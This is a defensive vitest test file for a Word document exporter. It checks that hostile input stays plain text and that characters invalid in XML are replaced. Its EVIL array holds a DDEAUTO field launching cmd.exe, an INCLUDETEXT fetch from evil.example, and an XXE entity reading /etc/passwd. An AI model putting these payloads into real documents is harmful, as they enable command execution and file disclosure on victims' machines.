/** W7: words that are meant for Word itself, and characters that no XML can hold. */
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { wordFile } from '../../server/export/word-file.ts';
import { wordText } from '../../server/export/word-reading.ts';
import { all, opened, wordsIn } from './opened.ts';
import { BLOCKS, block, coming, FORUM, HASHES, KENYA, position, readingOf } from './paper.ts';

const EVIL = [
  '</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r>',
  '{ INCLUDETEXT "https://evil.example/x.docx" }',
  '=HYPERLINK("https://evil.example","x")',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  ']]><?x y?> & " \' https://evil.example/',
  'MERGEFIELD PAGE \u0013 QUOTE "x" \u0015',
];
const BROKEN = '\u0000\u0001\u000b\u001f\ufffe\uffff\ud800x\udc00';

async function hostile(): Promise<Uint8Array> {
  const words = [...EVIL, BROKEN];
  const blocks = [block('title', words), ...words.map((one) => block('operative-item', [one, coming(one, 'ken')])), BLOCKS.a];
  const note = { reason: words.join('\n'), appended: words.join(' '), cure: words[0] ?? '' };
  const reading = await readingOf({
    blocks,
    title: words.join(' '),
    number: words.join(' '),
    positions: [position('objection', 'ken', { note })],
  });
  return wordFile(await wordText(reading, HASHES, 'marked', `${FORUM} ${words.join(' ')}`));
}

describe('W7 hostile words', () => {
  it('W7 stay words: every part can be read, and no field, link, object or macro comes of them', async () => {
    const file = opened(await hostile());
    const fields = [...file.parts.values()].flatMap((part) => ['w:instrText', 'w:fldSimple'].flatMap((name) => all(part, name)));
    expect(fields.map(wordsIn)).toEqual(['PAGE']);
    const named = [...file.parts.values()].flatMap((part) =>
      ['w:hyperlink', 'w:object', 'w:altChunk', 'w:subDoc', 'w:attachedTemplate', 'w:drawing', 'w:pict', 'w:control'].flatMap((name) =>
        all(part, name),
      ),
    );
    expect(named).toEqual([]);
    expect([...file.parts.keys()].filter((path) => !/\.(xml|rels)$/.test(path) || /vba|macro|embed|activeX/i.test(path))).toEqual([]);
    const relations = [...file.parts].filter(([path]) => path.endsWith('.rels')).flatMap(([, part]) => all(part, 'Relationship'));
    expect(relations.length).toBeGreaterThan(5);
    expect(relations.filter(({ attributes }) => attributes.TargetMode !== undefined || attributes.Target?.includes(':'))).toEqual([]);
    const written = file.paragraphs.flatMap(({ runs }) => runs.map(({ text }) => text)).join('\n');
    for (const words of EVIL.filter((one) => !one.includes('\u0013'))) expect(written).toContain(words);
  });

  it('W7 characters that XML cannot write are seen to have been there, and break nothing', async () => {
    const bytes = unzipSync(await hostile());
    const body = strFromU8(bytes['word/document.xml'] ?? new Uint8Array());
    expect(body).toContain(`>${'\ufffd'.repeat(7)}x\ufffd<`);
    expect(body).toContain(`w:author="${KENYA}"`);
  });
});
